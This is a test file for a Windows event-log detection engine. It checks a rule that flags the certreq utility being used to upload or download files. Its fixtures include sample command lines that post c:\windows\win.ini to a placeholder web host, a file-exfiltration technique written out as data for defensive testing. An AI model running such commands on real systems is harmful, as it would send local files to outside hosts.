/**
 * The built-in rule "Suspicious Certreq Command to Download or Upload": its metadata, and its truth table
 * (exactly `(OriginalFileName contains "certreq") OR (CommandLine contains Post AND Config AND http AND
 * win.ini)`, case-insensitive, on process-creation events only).
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { loadRules, type LoadedRule } from '../../src/rules/index.js';
import { compileEngine, type Engine } from '../../src/engine/index.js';
import type { WinEvent } from '../../src/model/event.js';
import { security, security4688, sysmon, sysmon1, winEvent } from '../engine/support/events.js';

const loaded = await loadRules({ paths: [] });
const rule = loaded.rules.find((r) => r.meta.id === 'certreq-download-upload') as LoadedRule;
const engine: Engine = compileEngine(loaded.rules);
const fires = (ev: WinEvent): boolean => engine.match(ev).some((d) => d.rule.id === 'certreq-download-upload');

test('the built-in rule loads from its YAML file with its metadata', () => {
  assert.deepEqual(loaded.errors, []);
  assert.ok(rule, 'built-in rule loaded');
  const m = rule.meta;
  assert.equal(m.title, 'Suspicious Certreq Command to Download or Upload');
  assert.equal(m.level, 'high');
  assert.equal(m.source, 'builtin:certreq-download-upload.yml');
  assert.deepEqual(m.tags, ['attack.defense-evasion', 'attack.t1027']);
  assert.deepEqual(m.falsepositives, ['Administrators managing certificates']);
  assert.ok(m.description && m.description.includes('certreq'));
  assert.equal(m.extra.rule_type, 'correlation');
  assert.equal(m.extra.nist_csf, 'DE.CM-09');
  assert.deepEqual(m.extra.mitre, {
    tactic: { id: 'TA0005', name: 'Defense Evasion' },
    technique: { id: 'T1027', name: 'Obfuscated Files or Information' },
  });
  assert.deepEqual(m.extra.impact, ['Data breach', 'Encryption of sensitive data', 'Exfiltration', 'Operational disruption']);
  assert.equal((m.extra.next_steps as string[]).length, 4);
  const sources = (m.extra.data_sources as string[]).join(' ');
  for (const s of ['Sysmon Event ID 1', 'Sysmon Event ID 5', '4688', '4689']) assert.ok(sources.includes(s), s);
  assert.ok((m.extra.required_configuration as string[]).some((s) => /command.line/i.test(s)));
  assert.equal(rule.rule.kind, 'rule');
  if (rule.rule.kind === 'rule') assert.deepEqual(rule.rule.logsource, { product: 'windows', category: 'process_creation' });
});

const CERTREQ_UPLOAD = 'CertReq -Post -config https://example.org/ c:\\windows\\win.ini output.txt';

test('OriginalFileName containing certreq fires on its own, in any case', () => {
  for (const ofn of ['CertReq.exe', 'certreq.exe', 'CERTREQ.EXE', 'certreq', 'xcertreqx.dll', 'CeRtReQ.EXE.MUI']) {
    assert.equal(fires(sysmon1('C:\\Windows\\System32\\certreq.exe', ofn, 'certreq -enroll -user')), true, ofn);
    assert.equal(fires(sysmon1(undefined, ofn, undefined)), true, `${ofn} without Image/CommandLine`);
  }
});

test('the command-line clause needs all four words, in any case and order', () => {
  const ok = [CERTREQ_UPLOAD, CERTREQ_UPLOAD.toUpperCase(), CERTREQ_UPLOAD.toLowerCase(), 'x.exe win.ini HTTP config POST', 'PostConfighttpwin.ini'];
  for (const cmd of ok) assert.equal(fires(sysmon1('C:\\x.exe', undefined, cmd)), true, cmd);
  const missingOne = [
    'certreq -Post -config https://example.org/ c:\\windows\\system.ini',
    'certreq -Post https://example.org/ c:\\windows\\win.ini',
    'certreq -config https://example.org/ c:\\windows\\win.ini',
    'certreq -Post -config ftp://example.org/ c:\\windows\\win.ini',
    'certreq -Post -config https://example.org/ c:\\windows\\win_ini',
  ];
  for (const cmd of missingOne) assert.equal(fires(sysmon1('C:\\Windows\\System32\\certreq.exe', undefined, cmd)), false, cmd);
});

test('missing fields and empty strings never match contains', () => {
  assert.equal(fires(sysmon1(undefined, undefined, undefined)), false);
  assert.equal(fires(sysmon1('', '', '')), false);
  assert.equal(fires(sysmon1('C:\\Windows\\System32\\certreq.exe', '', '')), false, 'Image is not a criterion');
  assert.equal(fires(sysmon1('C:\\Windows\\System32\\certreq.exe', undefined, 'certreq.exe -retrieve 20')), false);
  assert.equal(fires(sysmon(1, { OriginalFileName: null, CommandLine: null })), false, 'null values');
});

test('Unicode dashes and non-ASCII text: the criteria are plain substrings', () => {
  // Dashes are not part of any literal: en dash, em dash, horizontal bar and slash all still fire.
  for (const dash of ['\u2013', '\u2014', '\u2015', '/', '-'])
    assert.equal(fires(sysmon1('C:\\x.exe', undefined, `certreq ${dash}Post ${dash}config https://e.org/ c:\\windows\\win.ini o.txt`)), true, dash);
  // Look-alike letters break the literal: modifier letter small o (U+1D52), fullwidth, Cyrillic о, dotted İ.
  for (const cmd of [
    'certreq -P\u1d52st -config https://e.org/ c:\\windows\\win.ini',
    'certreq -\uff30\uff4f\uff53\uff54 -config https://e.org/ c:\\windows\\win.ini',
    'certreq -P\u043est -config https://e.org/ c:\\windows\\win.ini',
    'certreq -Post -config https://e.org/ c:\\windows\\w\u0130n.ini',
  ])
    assert.equal(fires(sysmon1('C:\\x.exe', undefined, cmd)), false, cmd);
  // Non-ASCII elsewhere does not matter.
  assert.equal(fires(sysmon1('C:\\Users\\Jürgen\\x.exe', undefined, 'certreq -Post -config https://bücher.example/ C:\\Windows\\win.ini Ärger.txt')), true);
  assert.equal(fires(sysmon1('C:\\x.exe', 'ЦертРек-certreq.exe', undefined)), true);
});

test('a 64k command line works', () => {
  const big = `certreq -Post -config https://e.org/ ${'A'.repeat(65536)} c:\\windows\\win.ini`;
  assert.equal(fires(sysmon1('C:\\x.exe', undefined, big)), true);
  assert.equal(fires(sysmon1('C:\\x.exe', undefined, big.replace('win.ini', 'win.txt'))), false);
});

test('Security 4688 routes to the rule; OriginalFileName is absent there', () => {
  assert.equal(fires(security4688('C:\\Windows\\System32\\certreq.exe', CERTREQ_UPLOAD)), true);
  assert.equal(fires(security4688('C:\\Windows\\System32\\certreq.exe', 'certreq -enroll')), false);
  assert.equal(fires(security4688('C:\\Windows\\System32\\certreq.exe', undefined)), false);
});

test('only process-creation events: not Sysmon 7/5, not Security 4689, not EID 1 of another provider', () => {
  assert.equal(fires(sysmon(7, { Image: 'C:\\x.exe', ImageLoaded: 'C:\\Windows\\System32\\certreq.exe', OriginalFileName: 'CertReq.exe' })), false);
  assert.equal(fires(sysmon(5, { Image: 'C:\\Windows\\System32\\certreq.exe', OriginalFileName: 'CertReq.exe', CommandLine: CERTREQ_UPLOAD })), false);
  assert.equal(fires(security(4689, { ProcessName: 'C:\\Windows\\System32\\certreq.exe', CommandLine: CERTREQ_UPLOAD })), false);
  assert.equal(fires(winEvent('Some-Other-Provider', 'Application', 1, { OriginalFileName: 'CertReq.exe', CommandLine: CERTREQ_UPLOAD })), false);
  assert.equal(fires(winEvent('Microsoft-Windows-Sysmon', 'ForwardedEvents', 1, { OriginalFileName: 'CertReq.exe' })), true, 'forwarded Sysmon');
});

test('the prefilter literals of the built-in rule are sound and small', () => {
  const lits = compileEngine([rule]).prefilterLiterals();
  assert.ok(lits, 'built-in rule has required literals');
  assert.ok(lits.includes('certreq'));
  assert.equal(lits.length, 2);
  assert.ok(lits.every((l) => CERTREQ_UPLOAD.toLowerCase().includes(l) || 'certreq.exe'.includes(l)));
});
